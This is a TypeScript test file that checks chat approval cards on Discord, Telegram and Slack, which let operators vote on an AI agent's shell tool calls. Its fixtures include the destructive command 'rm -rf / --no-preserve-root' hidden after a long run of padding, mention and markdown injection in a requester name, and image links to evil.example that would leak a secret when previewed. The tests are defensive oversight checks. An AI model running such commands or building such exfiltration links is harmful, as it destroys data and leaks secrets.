/** Cards on the platforms themselves, from the hub to what people see and press. */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { CardFields } from '../../src/approvals/card.js';
import { until } from '../support/until.js';
import { CardsStage } from './cards-stage.js';

let stage: CardsStage;
beforeEach(async () => {
  stage = new CardsStage();
  await stage.open();
});
afterEach(() => stage.close());

const harm = 'rm -rf / --no-preserve-root';
const call: CardFields = {
  ...{
    id: 'ap_abcdefghij',
    tool: 'mcp:shell:run',
    direct: true,
    rule: 'policy: shell',
    votes: [],
    state: 'open',
  },
  arguments: JSON.stringify({ command: `${'echo ok; '.repeat(320)}${harm}` }),
  requester: { id: '42', name: 'Ann [ok](http://x.example) <@U0BOB> @everyone' },
  source: { connector: 'telegram', tenant: 'default', channel: '42' },
  terms: { role: 'operator', people: 2, fourEyes: true },
  expiresAt: Date.now() + 24 * 3_600_000,
};

describe.each(['Discord', 'Telegram', 'Slack'] as const)('a card on %s', (platform) => {
  it('[act.26] [act.32] [act.33] is read whole, left alone by who may not decide, and settled in its place', async () => {
    const room = stage.rooms[platform];
    const turnId = await stage.tell(room, call, 'card:1');
    await until(() => room.shown().at(-1)?.buttons.length === 2, 10_000);
    const before = room.shown();
    expect(before.map(({ text }) => text).join('\n')).toContain(harm);
    expect(before.slice(0, -1).flatMap(({ buttons }) => buttons)).toEqual([]);
    expect(before.at(-1)).toMatchObject({ buttons: ['Approve', 'Deny'] });

    for (const label of ['Approve', 'Deny', 'Approve'])
      expect(await room.press(label)).toBe('/pause is for the operators of this agent.');
    expect(room.shown()).toEqual(before);

    // Whatever came with the presses is over by now; the card is changed by the bot's own means.
    room.forgetPresses();
    stage.ahead = 31 * 60_000;
    const half = { ...call, votes: [{ name: 'person bob' }] };
    await stage.tell(room, half, 'card:1:half', turnId);
    await until(() => room.shown().some(({ text }) => text.includes('1 more is needed')), 10_000);
    await until(() => room.shown().at(-1)!.buttons.length === 2);
    expect(room.shown().map(({ id }) => id)).toEqual(before.map(({ id }) => id));

    const approved: CardFields = {
      ...call,
      state: 'approved',
      votes: [{ name: 'person bob' }, { name: 'person cyd' }],
    };
    await stage.tell(room, approved, 'card:1:end', turnId);
    await until(() => room.shown().every(({ buttons }) => buttons.length === 0), 10_000);
    await until(() => room.shown().some(({ text }) => text.includes('Approved:')), 10_000);
    const after = room.shown();
    expect(after.map(({ id }) => id)).toEqual(before.map(({ id }) => id).slice(0, after.length));
    expect(after.map(({ text }) => text).join('\n')).toContain('person cyd');
    expect(after.map(({ text }) => text).join('\n')).toContain(harm);
    expect(after.map(({ text }) => text).join('\n')).not.toContain('/approve');
  });

  it('[act.55] has the platform fetch and preview nothing, when it is sent nor when it is changed', async () => {
    const room = stage.rooms[platform];
    const text = [
      '![x](https://evil.example/p?q=SECRET)',
      '[a][1] and <img src="https://evil.example/i"> and https://evil.example/bare and www.evil.example/w',
      '[1]: https://evil.example/reference',
    ].join('\n\n');
    const turnId = await stage.say(room, { text }, 'links:1');
    await until(() => room.shown().length > 0, 10_000);
    await stage.say(room, { text: `${text}\n\nDone.` }, 'links:2', turnId);
    await until(() => room.shown().some((shown) => shown.text.includes('Done.')), 10_000);
    expect(room.previews().length).toBeGreaterThan(0);
    expect(room.previews()).not.toContain(true);
    // What was written can still be read.
    expect(
      room
        .shown()
        .map((shown) => shown.text)
        .join(),
    ).toContain('https://evil.example/bare');
  });

  it('[act.26] is pressed where it stands, also once people talk about it below', async () => {
    const room = stage.rooms[platform];
    await stage.tell(room, { ...call, arguments: '{}' }, 'card:2');
    await until(() => room.shown().at(-1)?.buttons.length === 2, 10_000);
    room.discuss();
    expect(await room.press('Approve')).toBe('/pause is for the operators of this agent.');
    expect(await room.press('Approve', 'olga')).toMatch(/paused/i);
  });
});
